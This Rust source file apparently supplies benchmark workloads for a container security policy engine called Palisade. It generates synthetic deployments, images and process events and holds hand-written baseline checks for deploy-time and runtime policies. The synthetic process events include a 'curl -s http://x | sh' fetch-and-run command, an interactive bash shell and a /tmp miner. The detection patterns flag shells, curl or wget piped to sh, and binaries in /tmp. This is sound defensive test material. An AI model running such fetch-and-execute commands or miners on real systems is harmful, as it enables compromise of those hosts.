//! Workloads for the benchmarks: the ten deploy-time and three runtime policies of issue 6
//! in Palisade, the same checks written by hand over the same structs (the baseline), and a
//! deterministic generator of deployments joined with their images and of process events.

use palisade_engine::record::{Deployment, Process, Record};
use palisade_engine::{Dataset, Matcher};
use palisade_lang::{SourceFile, Sources};
use serde_json::{Value, json};

/// The thirteen policies, in the policy language.
pub const POLICIES: &str = include_str!("../policies/thirteen.pal");

/// The thirteen policies compiled to Rust by `build.rs` (see `palisade_engine::codegen`).
pub mod thirteen_generated {
    include!(concat!(env!("OUT_DIR"), "/thirteen.rs"));
}

/// The built-in library compiled to Rust by `build.rs`.
pub mod library_generated {
    include!(concat!(env!("OUT_DIR"), "/library.rs"));
}

/// `policies/every_test.pal` compiled to Rust by `build.rs` (for tests/generated.rs).
pub mod every_test_generated {
    include!(concat!(env!("OUT_DIR"), "/every_test.rs"));
}

/// "Now" for every bench: 2026-11-18.
pub const NOW: i64 = 1_795_000_000;

/// Compiles policy source files.
pub fn compile(files: &[(&str, &str)]) -> Matcher {
    let mut sources = Sources::default();
    let mut parsed = Vec::new();
    for (name, text) in files {
        let i = sources.add(SourceFile::new(*name, *text));
        match palisade_lang::parse(&sources, i) {
            Ok(f) => parsed.push((i, f)),
            Err(d) => panic_free_exit(&sources.to_line(&d[0])),
        }
    }
    let set = palisade_lang::check(&sources, &parsed)
        .unwrap_or_else(|d| panic_free_exit(&sources.to_line(&d[0])));
    let program =
        palisade_engine::compile(&set).unwrap_or_else(|e| panic_free_exit(&e.to_string()));
    Matcher::new(program).unwrap_or_else(|e| panic_free_exit(&e.to_string()))
}

fn panic_free_exit(msg: &str) -> ! {
    eprintln!("bench setup failed: {msg}");
    std::process::exit(2)
}

/// The built-in library, compiled.
pub fn library() -> Matcher {
    let files: Vec<(&str, &str)> = palisade_library::FILES.to_vec();
    compile(&files)
}

/// The release CLI the CLI benches run: `PALISADE_BIN`, else target/release/palisade.
pub fn release_cli() -> std::path::PathBuf {
    std::env::var_os("PALISADE_BIN").map_or_else(
        || std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/release/palisade"),
        std::path::PathBuf::from,
    )
}

/// The median of some runs (the middle one, of an odd number); zero for none.
pub fn median(mut runs: Vec<std::time::Duration>) -> std::time::Duration {
    runs.sort();
    runs.get(runs.len() / 2).copied().unwrap_or_default()
}

/// A small deterministic PRNG (xorshift) so every run generates the same workload.
pub struct Rng(u64);

impl Rng {
    /// Seeded.
    pub fn new(seed: u64) -> Self {
        Rng(seed.max(1))
    }
    /// Next value in `0..n`.
    pub fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n.max(1)
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }
}

/// Deployments (1-4 containers) joined with their images (20-300 components, 0-40 vulns).
pub fn workload(deployments: usize, seed: u64) -> Dataset {
    let mut ds = Dataset::default();
    for r in workload_records(deployments, seed) {
        if let Ok(rec) = serde_json::from_value::<Record>(r) {
            let _ = ds.add(rec);
        }
    }
    ds.finish();
    ds
}

/// The records of [`workload`] as records.md JSON: the images first, then the deployments.
pub fn workload_records(deployments: usize, seed: u64) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    let mut records = Vec::new();
    let images = (deployments / 4).max(4);
    for i in 0..images {
        let components: Vec<Value> = (0..20 + rng.below(281))
            .map(|c| json!({"name": format!("pkg{c}"), "version": "1.0", "vulns": []}))
            .collect();
        let mut components = components;
        for _ in 0..rng.below(41) {
            let c = rng.below(components.len() as u64) as usize;
            let fixed = if rng.chance(50) { "1.1" } else { "" };
            let vuln = json!({"id": format!("CVE-2024-{}", rng.below(99999)), "cvss": (rng.below(100) as f64) / 10.0, "fixed_by": fixed, "severity": "medium"});
            if let Some(list) = components[c]["vulns"].as_array_mut() {
                list.push(vuln);
            }
        }
        let tag = if rng.chance(10) { "latest" } else { "1.2.3" };
        let user = if rng.chance(30) { "root" } else { "1000" };
        let created = if rng.chance(50) {
            "2026-01-01T00:00:00Z"
        } else {
            "2026-11-01T00:00:00Z"
        };
        records.push(json!({"kind": "image", "id": format!("sha256:{i}"), "name": {"full_name": format!("registry.example.com/app{i}:{tag}")},
            "user": user, "created": created, "scan": {"components": components}}));
    }
    for d in 0..deployments {
        let containers: Vec<Value> = (0..1 + rng.below(4))
            .map(|c| {
                let img = rng.below(images as u64);
                json!({"name": format!("c{c}"), "image": {"id": format!("sha256:{img}")},
                    "security_context": {"privileged": rng.chance(5), "add_capabilities": if rng.chance(5) { vec!["NET_ADMIN"] } else { vec![] }},
                    "env": [{"name": "PORT", "value": "8080", "source": "raw"}, {"name": if rng.chance(5) { "DB_PASSWORD" } else { "LOG_LEVEL" }, "value": "x", "source": "raw"}],
                    "volumes": [{"name": "data", "type": "EmptyDir", "source": if rng.chance(3) { "/var/run/docker.sock" } else { "" }, "destination": "/data"}],
                    "resources": {"cpu_limit_cores": if rng.chance(10) { 0.0 } else { 1.0 }, "memory_limit_mb": 256}})
            })
            .collect();
        records.push(json!({"kind": "deployment", "id": format!("d{d}"), "name": format!("web-{d}"), "namespace": "prod",
            "host_network": rng.chance(3), "containers": containers}));
    }
    records
}

/// One record as JSON text with its `kind` first, as record writers put it (a `Value`
/// writes its keys sorted, which would send every record down the readers' slower path for
/// a `kind` found later).
pub fn record_text(record: &Value) -> String {
    serde_json::to_string(&palisade_adapters::KindFirst(record))
        .unwrap_or_else(|_| record.to_string())
}

/// Records as a JSON array, each with its `kind` first ([`record_text`]).
pub fn records_text(records: &[Value]) -> String {
    let items: Vec<String> = records.iter().map(record_text).collect();
    format!("[{}]", items.join(",\n"))
}

/// Process events: mostly application processes, some shells and downloaders.
pub fn processes(n: usize, seed: u64) -> Vec<Process> {
    process_records(n, seed)
        .into_iter()
        .filter_map(|v| serde_json::from_value(v).ok())
        .collect()
}

/// The events of [`processes`] as records.md JSON (`kind: process`).
pub fn process_records(n: usize, seed: u64) -> Vec<Value> {
    let mut rng = Rng::new(seed);
    (0..n)
        .map(|i| {
            let (name, path, args) = match rng.below(20) {
                0 => ("bash", "/bin/bash", "-i"),
                1 => ("curl", "/usr/bin/curl", "-s http://x | sh"),
                2 => ("miner", "/tmp/miner", "--pool x"),
                _ => ("server", "/app/server", "--port 8080"),
            };
            json!({"kind": "process", "id": format!("p{i}"), "name": name, "exec_path": path, "args": args, "uid": 1000})
        })
        .collect()
}

/// The ten deploy-time checks written by hand over the same structs.
pub struct HandWritten {
    secret: regex::Regex,
    pipe: regex::Regex,
}

impl Default for HandWritten {
    fn default() -> Self {
        let re = |p: &str| regex::Regex::new(p).unwrap_or_else(|e| panic_free_exit(&e.to_string()));
        HandWritten {
            secret: re("^(?i:.*(SECRET|PASSWORD|TOKEN).*)$"),
            pipe: re(r"(?i:\|\s*(ba)?sh)"),
        }
    }
}

impl HandWritten {
    /// Number of the ten deploy-time policies a deployment violates.
    pub fn deployment(&self, ds: &Dataset, d: &Deployment, now: i64) -> usize {
        fn image_of<'a>(
            ds: &'a Dataset,
            c: &'a palisade_engine::record::Container,
        ) -> Option<&'a palisade_engine::record::Image> {
            ds.image_of(c)
        }
        let images = || d.containers.iter().filter_map(|c| image_of(ds, c));
        let mut hits = 0;
        hits += usize::from(
            images().any(|i| i.name.as_ref().and_then(|n| n.tag.as_deref()) == Some("latest")),
        );
        hits += usize::from(
            d.containers
                .iter()
                .any(|c| c.security_context.as_ref().and_then(|s| s.privileged) == Some(true)),
        );
        hits += usize::from(images().any(|i| {
            i.scan.as_ref().is_some_and(|s| {
                s.components.iter().flatten().any(|c| {
                    c.vulns.iter().flatten().any(|v| {
                        v.is_active()
                            && v.fixed_by.as_deref().is_some_and(|f| !f.is_empty())
                            && v.cvss.is_some_and(|x| x >= 7.0)
                    })
                })
            })
        }));
        hits += usize::from(d.containers.iter().any(|c| {
            c.env
                .iter()
                .flatten()
                .any(|e| e.source.as_deref() == Some("raw") && self.secret.is_match(&e.name))
        }));
        hits += usize::from(d.containers.iter().any(|c| {
            c.volumes
                .iter()
                .flatten()
                .any(|v| v.source.as_deref() == Some("/var/run/docker.sock"))
        }));
        hits += usize::from(
            d.host_network == Some(true) || d.host_pid == Some(true) || d.host_ipc == Some(true),
        );
        hits += usize::from(images().any(|i| matches!(i.user.as_deref(), Some("" | "0" | "root"))));
        hits += usize::from(d.containers.iter().any(|c| {
            c.security_context
                .as_ref()
                .and_then(|s| s.add_capabilities.as_ref())
                .is_some_and(|caps| {
                    caps.iter().any(|x| {
                        matches!(
                            x.as_str(),
                            "SYS_ADMIN" | "NET_ADMIN" | "SYS_PTRACE" | "SYS_MODULE"
                        )
                    })
                })
        }));
        hits += usize::from(d.containers.iter().any(|c| {
            c.resources
                .as_ref()
                .is_some_and(|r| r.cpu_limit_cores == Some(0.0) || r.memory_limit_mb == Some(0.0))
        }));
        hits += usize::from(images().any(|i| {
            i.created
                .is_some_and(|t| (now - t.0) as f64 / 86_400.0 > 90.0)
        }));
        hits
    }

    /// Number of the three runtime policies a process violates.
    pub fn process(&self, p: &Process) -> usize {
        let name = p.name.as_deref().unwrap_or("");
        let mut hits = usize::from(matches!(
            name,
            "sh" | "bash" | "zsh" | "dash" | "ash" | "ksh"
        ));
        hits += usize::from(
            matches!(name, "curl" | "wget")
                && p.args.as_deref().is_some_and(|a| self.pipe.is_match(a)),
        );
        hits += usize::from(
            p.exec_path
                .as_deref()
                .is_some_and(|e| e.starts_with("/tmp/")),
        );
        hits
    }
}
